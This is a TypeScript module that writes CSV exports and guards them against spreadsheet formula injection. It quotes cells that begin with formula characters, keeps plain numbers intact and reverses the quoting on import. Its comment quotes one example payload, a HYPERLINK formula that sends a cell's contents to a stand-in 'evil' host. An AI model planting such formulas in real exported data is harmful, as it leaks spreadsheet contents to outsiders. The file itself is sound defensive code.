import 'server-only';
import { stringify } from 'csv-stringify/sync';

/**
 * The one CSV writer of every export (customers, the monthly report, survey responses and analysis). The files go to
 * managers who open them in Excel or WPS, where a cell beginning with `=`, `+`, `-` or `@` (or a tab, CR or LF before
 * one) is read as a formula: a customer name such as `=HYPERLINK("http://evil/?"&A1,"点击")` would run on opening
 * (CSV/formula injection). Such cells are written with a leading `'`, which spreadsheets show as text.
 *
 * Numbers stay numbers: a cell that is a number, or a string that is nothing but a decimal number (`-12.50`, `+3`), is
 * written as it is — no formula can hide in it, and a negative amount or change must stay a figure the reader can sum.
 */
export type CsvCell = string | number | null | undefined;

const FORMULA_START = /^[=+\-@\t\r\n]/;
// A value that itself begins with quotes before a formula character gets one more, so the import's undoing is exact.
const QUOTED_FORMULA_START = /^'+[=+\-@\t\r\n]/;
const DECIMAL = /^[+-]?\d+(\.\d+)?$/;

/** The text a cell is written as. */
export function csvCellText(value: CsvCell): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  return (FORMULA_START.test(value) && !DECIMAL.test(value)) || QUOTED_FORMULA_START.test(value) ? `'${value}` : value;
}

/**
 * The value an imported cell stands for: undoes `csvCellText`'s `'` so an exported file, edited and imported again,
 * does not grow a quote in every phone number that began with `+`.
 */
export function csvCellValue(text: string): string {
  return QUOTED_FORMULA_START.test(text) ? text.slice(1) : text;
}

/** A whole CSV file, UTF-8 with a BOM (so Excel opens the Chinese intact), every cell neutralised. */
export function csvFile(rows: Iterable<readonly CsvCell[]>): string {
  return '\uFEFF' + stringify(Array.from(rows, (row) => row.map(csvCellText)));
}
